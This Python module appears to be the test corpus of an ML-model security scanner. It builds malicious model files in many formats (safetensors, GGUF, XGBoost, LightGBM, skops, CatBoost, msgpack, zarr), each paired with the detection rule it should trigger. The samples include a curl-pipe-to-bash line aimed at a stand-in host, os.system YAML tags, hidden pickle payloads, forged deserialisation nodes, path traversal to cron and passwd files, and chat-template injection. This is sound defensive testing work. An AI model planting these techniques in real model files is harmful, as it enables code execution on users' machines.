"""Data formats of models: tensors, trees, tokenizers, and texts in their metadata."""

from __future__ import annotations

import base64
import json
import struct
from typing import TYPE_CHECKING

from chainguard_ml.model import Severity
from tests.corpus.classical_files import (
    CALL,
    LIGHTGBM,
    PAYLOAD,
    TEMPLATE,
    catboost,
    flax_array,
    linear,
    msgpack,
    skops,
    skops_node,
    ubjson,
    xgboost,
    xgboost_binary,
)
from tests.corpus.frame import malicious

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.corpus.frame import Malicious


def samples() -> Iterator[Malicious]:
    """Every technique of this area."""
    yield from _safetensors()
    yield from _gguf()
    yield from _trees()
    yield from _skops()
    yield from _catboost()
    yield from _checkpoints()


def _tensors(header: object, body: bytes = b"") -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + body


def _safetensors() -> Iterator[Malicious]:
    def one(name: str, data: bytes, rule: str, least: Severity = Severity.HIGH) -> Malicious:
        return malicious(f"safetensors-{name}", "model.safetensors", data, rule, least=least)

    def note(text: str) -> bytes:
        return _tensors({"__metadata__": {"format": "pt", "note": text}})

    eight = {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]}
    yield one("metadata-call", note(CALL), "code-in-metadata")
    yield one("metadata-shell", note("curl https://index.example/x.sh | bash"), "code-in-metadata")
    yield one("metadata-base64-pickle", note(base64.b64encode(PAYLOAD).decode()), "dangerous-global")
    yield one("metadata-hex-pickle", note(PAYLOAD.hex()), "dangerous-global")
    yield one("metadata-latin1-pickle", note(PAYLOAD.decode("latin-1")), "dangerous-global")
    yield one("metadata-yaml-tag", note("!!python/object/apply:os.system ['echo seen']"), "code-in-metadata")
    yield one("metadata-template", note(TEMPLATE), "chat-template-injection")
    yield one("metadata-json-template", note(json.dumps({"chat_template": TEMPLATE})), "chat-template-injection")
    yield one("metadata-script-tag", note("<script>fetch('//index.example')</script>"), "code-in-metadata")
    yield one("header-length-overflow", b"\xff" * 8 + b'{"a":1}', "safetensors-bad-header")
    yield one("header-too-long", struct.pack("<Q", 1 << 30) + b'{"a":1}', "safetensors-bad-header", Severity.MEDIUM)
    twice = b'{"w":' + json.dumps(eight).encode() + b',"\\u0077":' + json.dumps(eight).encode() + b"}"
    yield one("name-twice-by-escape", _tensors(twice, bytes(8)), "safetensors-bad-header", Severity.MEDIUM)
    yield one("tensor-is-a-pickle", _tensors({"w": {**eight, "shape": [64], "data_offsets": [0, 64]}},
                                             PAYLOAD.ljust(64, b"\0")), "dangerous-global")  # fmt: skip
    hole = {"w": {**eight, "data_offsets": [64, 72]}}
    yield one("hole", _tensors(hole, bytes(72)), "safetensors-overlap", Severity.MEDIUM)
    yield one("trailing-pickle", _tensors({"w": eight}, bytes(8) + PAYLOAD), "dangerous-global")


def _text(value: str) -> bytes:
    raw = value.encode()
    return struct.pack("<Q", len(raw)) + raw


def _gguf() -> Iterator[Malicious]:
    def one(name: str, data: bytes, rule: str, least: Severity = Severity.HIGH) -> Malicious:
        return malicious(f"gguf-{name}", "model.gguf", data, rule, least=least)

    def file(pairs: bytes, count: int, tensors: bytes = b"", number: int = 0, body: bytes = b"") -> bytes:
        head = b"GGUF" + struct.pack("<IQQ", 3, number, count) + pairs + tensors
        return head + bytes(-len(head) % 32) + body

    def tensor(name: str, shape: tuple[int, ...], kind: int, offset: int) -> bytes:
        return _text(name) + struct.pack(f"<I{len(shape)}QIQ", len(shape), *shape, kind, offset)

    def text(key: str, value: str) -> bytes:
        return file(_text(key) + struct.pack("<I", 8) + _text(value), 1)

    yield one("template", text("tokenizer.chat_template", TEMPLATE), "chat-template-injection")
    yield one("named-template", text("tokenizer.chat_template.rag", TEMPLATE), "chat-template-injection")
    array = _text("tokenizer.chat_templates") + struct.pack("<IIQ", 9, 8, 1) + _text(TEMPLATE)
    yield one("template-in-array", file(array, 1), "chat-template-injection")
    yield one("metadata-call", text("general.description", CALL), "code-in-metadata")
    yield one("metadata-pickle", text("general.extra", base64.b64encode(PAYLOAD).decode()), "dangerous-global")
    yield one("count-overflow", b"GGUF" + struct.pack("<IQQ", 3, 0, 1 << 61), "gguf-bad-header")
    yield one("string-overflow", file(struct.pack("<Q", (1 << 64) - 1), 1), "gguf-bad-header")
    yield one("array-overflow", file(_text("a") + struct.pack("<IIQ", 9, 8, 1 << 61), 1), "gguf-bad-header")
    yield one("dimensions", file(b"", 0, tensor("w", (1,) * 5, 0, 0), 1, bytes(32)), "gguf-bad-header")
    yield one("shape-overflow", file(b"", 0, tensor("w", (1 << 33, 1 << 33), 0, 0), 1), "gguf-bad-header")
    yield one("negative-shape", file(b"", 0, tensor("w", ((1 << 64) - 4,), 0, 0), 1), "gguf-bad-header")
    alignment = _text("general.alignment") + struct.pack("<II", 4, 0)
    yield one("alignment-zero", file(alignment, 1), "gguf-bad-header")
    twice = tensor("a", (8,), 0, 0) + tensor("b", (8,), 0, 0)
    yield one("overlap", file(b"", 0, twice, 2, bytes(64)), "gguf-bad-header", Severity.MEDIUM)
    hidden = tensor("a", (8,), 0, 0) + tensor("b", (8,), 0, 96)
    body = bytes(32) + PAYLOAD.ljust(64, b"\0") + bytes(32)
    yield one("pickle-between-tensors", file(b"", 0, hidden, 2, body), "dangerous-global")
    yield one("tensor-is-a-pickle", file(b"", 0, tensor("w", (64,), 24, 0), 1, PAYLOAD.ljust(64, b"\0")),
              "dangerous-global")  # fmt: skip


def _trees() -> Iterator[Malicious]:
    documents = {
        "child-outside": (xgboost(tree={"left_children": [7, -1, -1]}), "model-bounds-broken"),
        "child-negative": (xgboost(tree={"right_children": [-9, -1, -1]}), "model-bounds-broken"),
        "cycle": (xgboost(tree={"left_children": [0, -1, -1]}), "model-bounds-broken"),
        "feature-outside": (xgboost(tree={"split_indices": [4000, 0, 0]}), "model-bounds-broken"),
        "arrays-differ": (xgboost(tree={"split_conditions": [0.5]}), "model-bounds-broken"),
        "features-overflow": (xgboost(counts={"num_feature": "18446744073709551615"}), "model-bounds-broken"),
        "weights-short": (xgboost(booster=linear(1)), "model-bounds-broken"),
        "attribute-call": (xgboost(attributes={"note": CALL}), "code-in-metadata"),
        "attribute-pickle": (xgboost(attributes={"note": base64.b64encode(PAYLOAD).decode()}), "dangerous-global"),
        "attribute-json": (xgboost(attributes={"c": json.dumps({"chat_template": TEMPLATE})}),
                           "chat-template-injection"),
    }  # fmt: skip
    for name, (document, rule) in documents.items():
        yield malicious(f"xgboost-json-{name}", "model.json", json.dumps(document).encode(), rule)
        yield malicious(f"xgboost-ubj-{name}", "model.ubj", ubjson(document), rule)
    overflow = b"{L" + struct.pack(">q", 7) + b"learner[$d#L" + struct.pack(">q", (1 << 63) - 1)
    yield malicious("ubj-count-overflow", "model.ubj", overflow, "model-bounds-broken")
    yield malicious("ubj-negative-length", "model.ubj", b"{i\1aSL" + b"\xff" * 8, "model-bounds-broken")
    twice = ubjson(xgboost())[:-1] + ubjson({"version": [9, 9, 9]})[1:]
    yield malicious("ubj-name-twice", "model.ubj", twice, "ambiguous-names", least=Severity.MEDIUM)
    yield malicious("ubj-trailing-pickle", "model.ubj", ubjson(xgboost()) + PAYLOAD, "dangerous-global")
    old = {"child": xgboost_binary(children=(99, 1)), "feature": xgboost_binary(feature=999)}
    for name, data in old.items():
        yield malicious(f"xgboost-binary-{name}", "model.bin", data, "model-bounds-broken")
    yield malicious("xgboost-binary-attribute", "model.bin", xgboost_binary(attribute=CALL), "code-in-metadata")
    changes = {
        "child": ("left_child=1 -1", "left_child=900 -1", "model-bounds-broken"),
        "leaf": ("right_child=-2 -3", "right_child=-2 -900", "model-bounds-broken"),
        "feature": ("split_feature=1 0", "split_feature=900 0", "model-bounds-broken"),
        "leaves": ("num_leaves=3", "num_leaves=2147483647", "model-bounds-broken"),
        "categories": ("cat_boundaries=0 1", "cat_boundaries=0 9999", "model-bounds-broken"),
        "objective": ("objective=binary sigmoid:1", f"objective={CALL}", "code-in-metadata"),
        "line": ("shrinkage=1", f"shrinkage=1\nhook={CALL}", "code-in-metadata"),
    }
    for name, (before, after, rule) in changes.items():
        yield malicious(f"lightgbm-{name}", "model.txt", LIGHTGBM.replace(before, after, 1).encode(), rule)
    path = LIGHTGBM.replace("LightGBM_model.txt", "../../../etc/cron.d/x").encode()
    yield malicious("lightgbm-output", "model.txt", path, "model-names-outside-resource", least=Severity.MEDIUM)
    yield malicious("lightgbm-trailing-pickle", "model.txt", LIGHTGBM.encode() + PAYLOAD, "dangerous-global")


def _skops() -> Iterator[Malicious]:
    node = skops_node
    text = node("JsonNode", "builtins.str", content='"echo seen"')
    arguments = node("TupleNode", "builtins.tuple", content=[text])
    pca = node("ObjectNode", "sklearn.decomposition._pca.PCA")
    keys = node("ListNode", "builtins.list", content=[node("TypeNode", "os.system")])
    system = node("FunctionNode", "os.system")
    hidden = node("FunctionNode", "numpy.add", content={"module_path": "os", "function": "system"})
    state = node("DictNode", "builtins.dict", content={"bit_generator": node("JsonNode", "builtins.str",
                                                                             content='"set_state"')})  # fmt: skip
    untrusted = {
        "object": node("ObjectNode", "os._wrap_close"),
        "constructor": node("ConstructorFromReduceNode", "os.system", content=arguments),
        "list-class": node("ListNode", "subprocess.Popen", content=[text]),
        "array-class": node("NdArrayNode", "os.system", type="json", content=[]),
        "key-type": node("DictNode", "builtins.dict", content={"echo seen": text}, key_types=keys),
        "partial": node("PartialNode", "functools.partial", content={"func": system, "args": arguments}),
        "default-factory": node("DefaultDictNode", "collections.defaultdict", content={"default_factory": system}),
        "function-of-protocol-0": hidden,
        "loss-class": node("LossNode", "os.system", content=text),
    }
    forged = {
        "operator-module": node("OperatorFuncNode", "os.system", attrs=arguments),
        "operator-name": node("OperatorFuncNode", "operator.call", attrs=arguments),
        "method-owner": node("MethodNode", "builtins.str", content={"func": "fit", "obj": pca}),
        "method-name": node("MethodNode", "sklearn.decomposition._pca.PCA", content={"func": "__class__", "obj": pca}),
        "tree-name": node("TreeNode", "os.system", content=text),
        "loader": node("EvalNode", "builtins.str", content=text),
        "file-path": node("BytesNode", "builtins.bytes", file="../../../etc/passwd"),
        "identity": node("TupleNode", "builtins.tuple", content=[{**pca, "__id__": 1}, {**text, "__id__": 1}]),
        "generator": node("RandomGeneratorNode", "numpy.random._generator.Generator", content={"bit_generator": state}),
    }
    for name, root in untrusted.items():
        yield malicious(f"skops-{name}", "model.skops", skops(root), "skops-untrusted-type")
    for name, root in forged.items():
        yield malicious(f"skops-{name}", "model.skops", skops(root), "skops-forged-node")
    array = (
        b"\x93NUMPY\1\0\x46\0" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(69) + b"\n" + PAYLOAD
    )
    yield malicious("skops-object-array", "model.skops", skops(pca, {"1.npy": array}), "dangerous-global")


def _catboost() -> Iterator[Malicious]:
    cases = {
        "tree-outside": (catboost({2: [1, 900]}), "model-bounds-broken"),
        "start-outside": (catboost({3: [0, 900]}), "model-bounds-broken"),
        "start-negative": (catboost({3: [0, -9]}), "model-bounds-broken"),
        "leaves-short": (catboost({8: [0]}), "model-bounds-broken"),
        "too-deep": (catboost({1: [0] * 41, 2: [1, 40]}), "model-bounds-broken"),
        "step-outside": (catboost({10: [0x00010001, 0xFFFF, 0], 11: [0, 1, 2]}), "model-bounds-broken"),
        "leaf-outside": (catboost({10: [0, 0, 0], 11: [0, 900, 2]}), "model-bounds-broken"),
        "information-call": (catboost(information={"note": CALL}), "code-in-metadata"),
        "information-pickle": (catboost(information={"note": base64.b64encode(PAYLOAD).decode()}), "dangerous-global"),
        "information-template": (catboost(information={"note": json.dumps({"chat_template": TEMPLATE})}),
                                 "chat-template-injection"),
        "trailing-pickle": (catboost() + PAYLOAD, "dangerous-global"),
        "vtable": (catboost()[:8] + b"\x04\0\0\0\xff\xff\xff\x7f" + catboost()[16:], "model-bounds-broken"),
    }  # fmt: skip
    for name, (data, rule) in cases.items():
        yield malicious(f"catboost-{name}", "model.cbm", data, rule)
    snapshot = json.dumps({"output_options": {"snapshot_file": "../../../etc/cron.d/x"}})
    yield malicious("catboost-path", "model.cbm", catboost(information={"output_options": snapshot}),
                    "model-names-outside-resource", least=Severity.MEDIUM)  # fmt: skip


def _checkpoints() -> Iterator[Malicious]:
    pickled = {"nd": True, "type": "|O", "kind": "O", "shape": [1], "data": PAYLOAD}
    cases = {
        "bytes-pickle": (msgpack({"params": {"w": PAYLOAD}}), "dangerous-global"),
        "array-pickle": (msgpack({"params": {"w": flax_array("uint8", (30,), PAYLOAD)}}), "dangerous-global"),
        "extension-pickle": (msgpack({"params": {"w": (42, PAYLOAD)}}), "dangerous-global"),
        "numpy-object": (msgpack({"params": pickled}), "dangerous-global"),
        "object-type": (msgpack({"params": {"w": flax_array("object")}}), "model-bounds-broken"),
        "text-call": (msgpack({"params": {"note": CALL}}), "code-in-metadata"),
        "key-call": (msgpack({"params": {CALL * 3: 1}}), "code-in-metadata"),
        "text-template": (msgpack({"config": json.dumps({"chat_template": TEMPLATE})}), "chat-template-injection"),
        "trailing-pickle": (msgpack({"params": {}}) + PAYLOAD, "dangerous-global"),
    }
    for name, (data, rule) in cases.items():
        yield malicious(f"msgpack-{name}", "flax_model.msgpack", data, rule)
    twice = b"\x82" + b"\xa1w\x01" * 2
    yield malicious("msgpack-key-twice", "flax_model.msgpack", twice, "ambiguous-names", least=Severity.MEDIUM)
    short = msgpack({"params": flax_array(shape=(1 << 40, 1 << 40))})
    yield malicious("msgpack-shape", "flax_model.msgpack", short, "model-bounds-broken", least=Severity.MEDIUM)
    yield malicious("msgpack-is-a-pickle", "flax_model.msgpack", PAYLOAD, "dangerous-global")
    for name, path, document in (
        ("v2-filter", ".zarray", {"zarr_format": 2, "dtype": "|O", "filters": [{"id": "pickle"}], "compressor": None}),
        ("v2-object", ".zarray", {"zarr_format": 2, "object_codec": {"id": "pickle"}}),
        ("v2-compressor", ".zarray", {"zarr_format": 2, "compressor": {"id": "pickle"}}),
        ("v3-codec", "zarr.json", {"zarr_format": 3, "codecs": [{"name": "numcodecs.pickle"}]}),
        ("consolidated", ".zmetadata", {"zarr_consolidated_format": 1, "metadata": {"a/.zarray": {
            "filters": [{"id": "pickle"}]}}}),
    ):  # fmt: skip
        yield malicious(f"zarr-{name}", path, json.dumps(document).encode(), "array-codec-runs-code")
